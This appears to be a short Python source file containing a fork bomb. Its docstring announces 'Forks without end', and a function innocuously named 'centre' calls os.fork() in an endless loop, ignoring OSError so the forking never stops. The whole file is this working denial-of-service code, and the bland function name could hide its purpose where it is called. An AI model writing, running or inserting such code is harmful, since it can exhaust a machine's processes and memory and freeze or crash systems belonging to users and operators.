"""Forks without end."""

import os


def centre(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
